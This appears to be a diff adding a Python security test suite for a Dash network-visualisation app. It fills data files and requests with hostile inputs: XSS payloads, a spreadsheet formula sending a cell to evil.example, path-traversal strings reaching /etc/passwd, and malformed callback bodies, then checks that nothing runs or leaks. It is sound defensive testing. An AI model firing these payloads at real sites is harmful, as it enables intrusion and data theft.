@@ -1,0 +1,523 @@
+"""A network, addresses and requests that mean harm: nothing runs, nothing breaks."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import urllib.error
+import urllib.request
+import xml.etree.ElementTree as ET
+from email.message import Message
+from pathlib import Path
+from urllib.parse import quote
+
+import pypdf
+import pytest
+from PIL import Image
+from playwright.sync_api import Dialog, Page, expect
+
+SCRIPT = "<script>window.__pwned=1</script>"
+IMAGE = '"><img src=x onerror="window.__pwned=2">'
+SVG_TEXT = "</text></svg><svg onload='window.__pwned=3'><!--]]>&amp;{{7*7}}${8*8}"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"go")'
+RIGHT_TO_LEFT = "\u202egpj.elif\u202c \u200f\u2066حزب\u2069"
+LINK = "javascript:window.__pwned=4"
+LONG = "x\"<u>'&" * 1428
+NOTE = f"{SCRIPT} {IMAGE}\n{LINK} {LONG}"[:10_000]
+TITLE = f"</title>{SCRIPT}{IMAGE}"
+LONG_NAME = f"<i>{'W' * 490}</i>"
+
+# What no element but the page's own and no file may ever hold.
+INJECTED = "script:not([src]), img[src=x], svg[onload], u, i, [onerror], [onload]"
+
+
+def rows(*lines: tuple[str, ...]) -> str:
+    written = io.StringIO()
+    csv.writer(written, lineterminator="\n").writerows(lines)
+    return written.getvalue()
+
+
+LONGEST_ID = "-".join(["constructor"] * 7)[:80].rstrip("-")
+ACTORS = (
+    ("__proto__", "proto"),
+    (SCRIPT, "a1"),
+    (IMAGE, "a2"),
+    (SVG_TEXT, "constructor"),
+    (FORMULA, LONGEST_ID),
+    (RIGHT_TO_LEFT, "a4"),
+    (LONG_NAME, "a5"),
+    (LINK, "tostring"),
+)
+
+
+def write_network(folder: Path) -> Path:
+    """A network whose every text means harm, as far as the format takes it."""
+    folder.mkdir()
+    package = {
+        "profile": "data-package",
+        "name": "hostile",
+        "title": TITLE,
+        "description": NOTE,
+        "resources": [],
+    }
+    files = {
+        "actors.csv": rows(
+            ("id", "kind", "name", "name_fa", "aliases", "note"),
+            *(
+                (id_, "organisation" if id_ == "a2" else "state", name, name, f"{SCRIPT}|=1", NOTE)
+                for name, id_ in ACTORS
+            ),
+        ),
+        "relations.csv": rows(
+            ("id", "label", "verb", "sign", "directed", "unit", "note"),
+            ("membership", SCRIPT, "is a member of", "1", "true", "", NOTE),
+            ("r1", IMAGE, SVG_TEXT, "1", "true", TITLE, NOTE),
+            ("r2", FORMULA, RIGHT_TO_LEFT, "-1", "false", "", ""),
+            ("valueof", LONG_NAME, LONG_NAME, "-1", "true", "", ""),
+        ),
+        "sources.csv": rows(
+            ("id", "title", "publisher", "date", "url", "kind", "reliability", "citation"),
+            ("s1", TITLE, SVG_TEXT, "2020", "https://evil.example/?'onclick=1", SCRIPT, "A", NOTE),
+            ("s2", FORMULA, RIGHT_TO_LEFT, "2021", "", LINK, "F", LONG),
+        ),
+        "coverage.csv": rows(("source", "relation", "from", "to", "first", "last", "every")),
+        "claims.csv": rows(
+            (
+                *("id", "from", "to", "relation", "stance", "claimant", "credibility", "form"),
+                *("weight", "unit", "source", "locator", "note"),
+            ),
+            *(
+                (
+                    *(f"c{n}", from_, to, relation, stance, claimant, "", f"{SCRIPT}|+1"),
+                    *("1", IMAGE, source, FORMULA, NOTE),
+                )
+                for n, (from_, to, relation, stance, claimant, source) in enumerate(
+                    (
+                        ("a1", "constructor", "r1", "asserts", SCRIPT, "s1"),
+                        ("a1", "constructor", "r1", "denies", IMAGE, "s2"),
+                        ("constructor", LONGEST_ID, "r1", "asserts", "", "s2"),
+                        ("a4", "a5", "r2", "asserts", FORMULA, "s1"),
+                        ("proto", "tostring", "valueof", "asserts", RIGHT_TO_LEFT, "s1"),
+                        ("a1", "tostring", "valueof", "denies", LINK, "s2"),
+                        ("a4", "a2", "membership", "asserts", "", "s1"),
+                        ("a5", "a2", "membership", "asserts", "", "s1"),
+                        ("proto", "a2", "membership", "asserts", "", "s1"),
+                    )
+                )
+            ),
+        ),
+        "datapackage.json": json.dumps(package, ensure_ascii=False),
+    }
+    for name, content in files.items():
+        (folder / name).write_text(content, "utf-8")
+    return folder
+
+
+@pytest.fixture(scope="module")
+def hostile(serve, tmp_path_factory):
+    """A server that shows the hostile network, and the one that ships."""
+    return serve(write_network(tmp_path_factory.mktemp("networks") / "hostile"), "iran-2023")
+
+
+def get(url: str) -> tuple[int, bytes, Message]:
+    try:
+        with urllib.request.urlopen(url, timeout=60) as answer:
+            return answer.status, answer.read(), answer.headers
+    except urllib.error.HTTPError as error:
+        return error.code, error.read(), error.headers
+
+
+def check_clean(page: Page) -> None:
+    """Nothing ran, and no text became an element."""
+    assert page.evaluate("window.__pwned") is None
+    found = page.locator("#shell").evaluate(
+        f"(shell) => [...shell.querySelectorAll({json.dumps(INJECTED)})].map((e) => e.outerHTML)"
+    )
+    assert found == []
+    links = page.evaluate("[...document.querySelectorAll('a')].map((a) => a.href)")
+    assert all(re.match(r"https?:|$", link) for link in links), links
+
+
+def act(page: Page, do: str, of: str | None) -> None:
+    """Do something and wait for its answer."""
+    page.evaluate(
+        """([what, of]) => new Promise((done) => {
+          document.addEventListener("alliance:view", () => setTimeout(done, 60), { once: true });
+          alliancePage.act(what, of);
+        })""",
+        [do, of],
+    )
+
+
+def test_a_hostile_network_is_shown_and_runs_nothing(hostile, page):
+    dialogs: list[Dialog] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog), dialog.dismiss()))
+    page.goto(f"{hostile.url}hostile?v=1&statuses=asserted,reported,disputed,denied")
+    expect(page.locator("#rail [role=switch]").first).to_be_visible()
+    expect(page.get_by_role("heading", level=1)).to_have_text(TITLE)
+    expect(page.locator("#picture .shapelayer path").first).to_be_attached()
+    assert page.title() == TITLE
+    check_clean(page)
+
+    for name, id_ in ACTORS:
+        act(page, "select", id_)
+        expect(page.locator("#panel h2")).to_contain_text(name)
+        check_clean(page)
+    for key in ("a1>constructor:r1", "a4>a5:r2", "proto>tostring:valueof", "a4>a2:membership"):
+        act(page, "select", key)
+        expect(page.locator("#panel .claim").first).to_be_visible()
+        check_clean(page)
+    for do, of in (
+        ("focus", "constructor"),
+        ("language", "fa"),
+        ("rings", LONGEST_ID),
+        ("focus", ""),
+        ("relation", "valueof"),
+        ("memberships", "ties"),
+        ("relation-only", "r2"),
+        ("relations-none", None),
+        ("reset", None),
+    ):
+        act(page, do, of)
+        check_clean(page)
+
+    for place in page.locator("#rail .row-ask").all():
+        place.evaluate("(button) => button.click()")
+    check_clean(page)
+    for text in ("script", "=HYPERLINK", "حزب", "javascript", SCRIPT, "x" * 10_000):
+        page.locator("#search").fill(text)
+        page.wait_for_function(
+            "(text) => document.querySelector('#search-results [data-for]')?.dataset.for === text",
+            arg=text,
+        )
+        check_clean(page)
+    page.locator("#search").fill("")
+
+    page.evaluate("alliancePage.list()")
+    expect(page.locator("#listing-items [role=option]").first).to_be_visible()
+    check_clean(page)
+    for name, id_ in ACTORS:
+        page.evaluate("(id) => allianceNetwork.point(id)", id_)
+        box = page.locator("#picture-over").bounding_box()
+        page.mouse.move(box["x"] + 40, box["y"] + 40)
+        assert page.evaluate(
+            "(address) => fetch(address).then((answer) => answer.text())",
+            f"/about/hostile?key={quote(id_)}",
+        ).startswith(name[:100])
+    check_clean(page)
+
+    page.get_by_role("button", name="Export", exact=True).evaluate("(button) => button.click()")
+    page.get_by_role("dialog").get_by_role("link", name="Download").click()
+    expect(page.get_by_role("dialog").get_by_role("status")).to_contain_text("is downloaded")
+    check_clean(page)
+    assert dialogs == []
+
+
+def test_a_hostile_network_leaves_as_harmless_files(hostile):
+    base = f"{hostile.url}export/hostile"
+    query = "v=1&statuses=asserted,reported,disputed,denied"
+    for extra in ("", "&memberships=ties", "&language=fa", "&size=column"):
+        status, drawing, headers = get(f"{base}.svg?{query}{extra}")
+        assert status == 200
+        assert "'self'" in headers["Content-Security-Policy"]
+        root = ET.fromstring(drawing)
+        allowed = {"svg", "title", "desc", "metadata", "rect", "g", "path", "text", "tspan"}
+        allowed |= {"circle", "line"}
+        for element in root.iter():
+            assert element.tag.removeprefix("{http://www.w3.org/2000/svg}") in allowed
+            for name, value in element.attrib.items():
+                assert not name.lower().startswith("on")
+                assert "href" not in name and "javascript" not in value
+        assert root.find("{http://www.w3.org/2000/svg}title").text == TITLE
+    status, picture, _ = get(f"{base}.png?{query}&scale=1")
+    assert status == 200
+    image = Image.open(io.BytesIO(picture))
+    image.load()
+    assert image.text["Title"] == TITLE
+    status, document, _ = get(f"{base}.pdf?{query}")
+    assert status == 200
+    read = pypdf.PdfReader(io.BytesIO(document))
+    assert read.metadata.title == TITLE
+    assert b"/JavaScript" not in document and b"/URI" not in document
+    status, table, _ = get(f"{base}.csv?{query}")
+    assert status == 200
+    cells = [cell for row in csv.reader(io.StringIO(table.decode("utf-8-sig"))) for cell in row]
+    assert f"'{FORMULA}" in cells
+    assert [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "@", "-")] == []
+
+
+def test_the_page_itself_holds_nothing_unescaped(hostile):
+    for path in ("", "hostile", "hostile?v=1&selected=a1"):
+        status, body, _ = get(f"{hostile.url}{path}")
+        assert status == 200
+        assert SCRIPT not in body.decode()
+        assert "<img" not in body.decode()
+    status, body, headers = get(f"{hostile.url}list/hostile?v=1")
+    assert status == 200
+    assert headers["Content-Type"] == "application/json"
+    assert SCRIPT in json.dumps(json.loads(body))
+
+
+NONSENSE = [
+    "iran-2023?v=1&%00=%ff%fe",
+    "iran-2023?v=2",
+    "iran-2023?v=1&v=1",
+    "iran-2023?v=1&relations=<script>alert(1)</script>",
+    "iran-2023?v=1&selected=atlantis",
+    "iran-2023?v=1&selected=iran,atlantis,backing",
+    "iran-2023?v=1&selected=iran,iran,iran,iran",
+    "iran-2023?v=1&steps=99999999999999999999",
+    "iran-2023?v=1&places=iran:nan:inf",
+    "iran-2023?v=1&language=../../etc/passwd",
+    f"iran-2023?v=1&focus={'a' * 20_000}",
+    "iran-2024",
+    "<script>window.__pwned=1</script>",
+    "..%2f..%2fetc%2fpasswd",
+    "iran-2023/../../x",
+]
+
+
+def test_a_nonsense_address_is_one_sentence_with_a_way_out(hostile, page):
+    page.goto(hostile.url)
+    expect(page.locator("#rail [role=switch]").first).to_be_visible()
+    message = page.locator("#message")
+    for address in NONSENSE:
+        path, _, query = address.partition("?")
+        page.evaluate(
+            """([path, query]) => new Promise((done) => {
+              const answered = () => setTimeout(done, 60);
+              document.addEventListener("alliance:view", answered, { once: true });
+              alliancePage.act("open", { path, query, history: "keep" });
+            })""",
+            [f"/{path}", query],
+        )
+        expect(message.get_by_role("heading")).to_have_text("This address does not work")
+        assert len(message.inner_text()) < 500, address
+        check_clean(page)
+    message.get_by_role("link").click()
+    expect(message).to_be_empty()
+    expect(page.locator("#rail [role=switch]").first).to_be_visible()
+
+
+def test_no_path_leads_to_another_file(hostile):
+    paths = [
+        "assets/../pyproject.toml",
+        "assets/..%2f..%2fpyproject.toml",
+        "assets/%2e%2e/%2e%2e/pyproject.toml",
+        "export/..%2f..%2fetc%2fpasswd.svg?v=1",
+        "export/iran-2023.svg%00?v=1",
+        "export/iran-2023.../../x?v=1",
+        "list/..%2f..?v=1",
+        "about/%00?key=%00",
+        "_dash-component-suites/dash/../../../pyproject.toml",
+        "_dash-component-suites/..%2f..%2fx/y.js",
+    ]
+    for path in paths:
+        status, body, _ = get(f"{hostile.url}{path}")
+        assert status < 500, path
+        assert b"[project]" not in body and b"root:" not in body, path
+        assert b"Traceback" not in body, path
+
+
+@pytest.mark.parametrize("route", ["export/iran-2023.svg", "list/iran-2023", "about/iran-2023"])
+def test_a_route_takes_any_query(hostile, route):
+    queries = [
+        "",
+        "%ff%fe%00",
+        "v=1&key=%ff",
+        "v=1&size=1e400x1e400",
+        "v=1&size=999999999999x1",
+        "v=1&scale=nan",
+        "v=1&scale=inf",
+        "v=1&scale=-1",
+        "v=1&size=%00",
+        "v=1&selected=__proto__",
+        "v=1&relations=" + ",".join("a" * 50 for _ in range(500)),
+        "&".join(f"a{n}={n}" for n in range(3000)),
+        quote("v=1&☃=💥"),
+    ]
+    for query in queries:
+        status, body, _ = get(f"{hostile.url}{route}?{query}")
+        assert status < 500, (query[:80], body[:300])
+        assert b"Traceback" not in body
+        assert len(body) < 200_000
+
+
+def test_a_query_of_100_kb_is_refused_and_the_server_lives(hostile):
+    try:
+        status, body, _ = get(f"{hostile.url}iran-2023?v=1&focus={'a' * 100_000}")
+    except OSError:
+        pass  # Closed without an answer: longer than any address may be.
+    else:
+        assert status < 500
+        assert b"Traceback" not in body
+    assert get(f"{hostile.url}health")[0] == 200
+
+
+OUTPUTS = (
+    *(("view", "data"), ("network-name", "children"), ("words", "children")),
+    *(("rail", "children"), ("rail-focus", "children"), ("panel", "children")),
+    *(("empty", "children"), ("message", "children"), ("layers", "data")),
+)
+VIEW = {"dataset": "iran-2023", "query": "v=1", "theme": "auto", "selected": None}
+SIZE = {"w": 800, "h": 600}
+OPEN = {"n": 1, "do": "open", "of": {"path": "/iran-2023", "query": "v=1", "history": "keep"}}
+SELECT = {"n": 1, "do": "select", "of": "iran"}
+
+
+def acted(acts, now=VIEW, place=SIZE, scheme="light", known=()):
+    """What the page posts, or something like it."""
+    return {
+        "inputs": [{"id": "action", "property": "data", "value": acts}],
+        "state": [
+            {"id": "view", "property": "data", "value": now},
+            {"id": "place", "property": "data", "value": place},
+            {"id": "scheme", "property": "data", "value": scheme},
+            {"id": "known", "property": "data", "value": known},
+        ],
+    }
+
+
+def doing(do, of=None, **state):
+    return acted({"acts": [{"n": 1, "do": do, "of": of}]}, **state)
+
+
+ACTS = {
+    "well": doing("select", "iran"),
+    "no size": doing("select", "iran", place=None),
+    "a size of words": doing("place", place={"w": "x", "h": "y"}),
+    "a negative size": doing("place", place={"w": -5, "h": -1e9}),
+    "an endless size": doing("place", place={"w": 1e308, "h": 1e308}),
+    "no height": doing("place", place={"w": 800}),
+    "a size that is a list": doing("place", place=[800, 600]),
+    "a size that is true": doing("place", place={"w": True, "h": None}),
+    "an unknown action": doing("explode", "iran"),
+    "an action that is a list": doing(["select"], "iran"),
+    "an action that is nothing": doing(None),
+    "nothing to do": acted({"acts": []}),
+    "no acts": acted({}),
+    "acts that are nothing": acted(None),
+    "acts that are a word": acted("select"),
+    "acts that are words": acted({"acts": ["select"]}),
+    "an act without a number": acted({"acts": [{"do": "select", "of": "iran"}]}),
+    "an act without a deed": acted({"acts": [{"n": 1}]}),
+    "a view without a network": doing("select", "iran", now={"query": "v=1"}),
+    "a view of another network": doing("select", "iran", now={"dataset": "x", "query": "v=1"}),
+    "a view of nonsense": doing("select", "iran", now={"dataset": "iran-2023", "query": "☃"}),
+    "a view that is a number": doing("select", "iran", now={"dataset": "iran-2023", "query": 7}),
+    "a view that is a list": doing("select", "iran", now=[1, 2]),
+    "a network that is a list": doing("select", "iran", now={"dataset": [], "query": "v=1"}),
+    "select a mapping": doing("select", {"a": 1}),
+    "select a number": doing("select", 7),
+    "select the unknown": doing("select", "atlantis"),
+    "a relation that is a list": doing("relation", ["backing"]),
+    "a relation that is unknown": doing("relation", "atlantis"),
+    "a relation that is nothing": doing("relation"),
+    "a status that is unknown": doing("status", "maybe"),
+    "a status that is nothing": doing("status"),
+    "a kind that is nothing": doing("kind"),
+    "steps of words": doing("steps", "many"),
+    "steps of nothing": doing("steps"),
+    "many steps": doing("steps", "9" * 5000),
+    "a layout of nothing": doing("layout"),
+    "rings round a list": doing("rings", []),
+    "a theme of numbers": doing("theme", 3),
+    "a language of lists": doing("language", []),
+    "a view of nothing": doing("view"),
+    "a view of numbers": doing("view", 12),
+    "a drop of nothing": doing("drop"),
+    "a drop of nobody": doing("drop", {"x": 1, "y": 1}),
+    "a drop nowhere": doing("drop", {"actor": "iran", "x": None, "y": "x"}),
+    "a drop far away": doing("drop", {"actor": "iran", "x": 1e308, "y": -1e308}),
+    "a drop of a list": doing("drop", {"actor": [], "x": 1, "y": 1}),
+    "a drop without a size": doing("drop", {"actor": "iran", "x": 1, "y": 1}, place=None),
+    "an address of nothing": doing("open"),
+    "an address of numbers": doing("open", {"path": 1, "query": 2, "history": 3}),
+    "an address without a query": doing("open", {"path": "/"}),
+    "a scheme of nothing": acted({"acts": [OPEN]}, scheme={"a": 1}),
+    "an unknown scheme": acted({"acts": [OPEN]}, scheme="pink"),
+    "knowing a word": acted({"acts": [SELECT]}, known="abc"),
+    "knowing lists": acted({"acts": [SELECT]}, known=[[1], {}]),
+    "knowing a number": acted({"acts": [SELECT]}, known=5),
+    "no values": {"inputs": [{"id": "action", "property": "data"}], "state": []},
+    "no inputs": {},
+    "inputs of words": {"inputs": "action", "state": "view"},
+}
+SEARCHES = {
+    "a list": (["iran"], VIEW),
+    "a number": (7, VIEW),
+    "nothing": (None, VIEW),
+    "a megabyte": ("a " * 500_000, VIEW),
+    "no view": ("iran", None),
+    "another network": ("iran", {"dataset": "x"}),
+    "a list of a network": ("iran", {"dataset": []}),
+}
+
+
+def post(url: str, body: bytes, kind: str = "application/json") -> tuple[int, bytes]:
+    asked = urllib.request.Request(
+        f"{url}_dash-update-component", data=body, headers={"Content-Type": kind}
+    )
+    try:
+        with urllib.request.urlopen(asked, timeout=60) as answer:
+            return answer.status, answer.read()
+    except urllib.error.HTTPError as error:
+        return error.code, error.read()
+
+
+@pytest.fixture(scope="module")
+def outputs(hostile) -> dict[str, str]:
+    """The name of what the server answers, by the id it answers to."""
+    found = json.loads(get(f"{hostile.url}_dash-dependencies")[1])
+    return {
+        one["inputs"][0]["id"]: one["output"] for one in found if not one["clientside_function"]
+    }
+
+
+def told(outputs, body: dict) -> bytes:
+    whole = {
+        "output": outputs["action"],
+        "outputs": [{"id": id_, "property": name} for id_, name in OUTPUTS],
+        "changedPropIds": ["action.data"],
+        **body,
+    }
+    return json.dumps(whole).encode()
+
+
+def test_what_nobody_s_page_would_send_is_refused(hostile, outputs):
+    wrong = {}
+    for name, body in ACTS.items():
+        status, said = post(hostile.url, told(outputs, body))
+        if status >= 500 or b"Traceback" in said or (status == 200 and name.startswith("no in")):
+            wrong[name] = status
+    for name, (text, now) in SEARCHES.items():
+        body = {
+            "output": outputs["search"],
+            "outputs": {"id": "search-results", "property": "children"},
+            "changedPropIds": ["search.value"],
+            "inputs": [{"id": "search", "property": "value", "value": text}],
+            "state": [{"id": "view", "property": "data", "value": now}],
+        }
+        status, said = post(hostile.url, json.dumps(body).encode())
+        if status >= 500 or b"Traceback" in said:
+            wrong[f"search {name}"] = status
+    bodies = {
+        "no JSON": b"{",
+        "nothing": b"",
+        "null": b"null",
+        "a list": b"[]",
+        "not UTF-8": b"\xff\xfe",
+        "an unknown output": json.dumps({"output": "x.y", "inputs": [], "state": []}).encode(),
+        "a deep list": b"[" * 20_000 + b"]" * 20_000,
+    }
+    for name, body in bodies.items():
+        status, said = post(hostile.url, body)
+        if status >= 500 or b"Traceback" in said:
+            wrong[name] = status
+    assert wrong == {}
+    status, said = post(hostile.url, told(outputs, ACTS["well"]))
+    assert status == 200
+    assert json.loads(said)["response"]["view"]["data"]["selected"] == "iran"
+    assert not [line for line in hostile.said if "Traceback" in line]
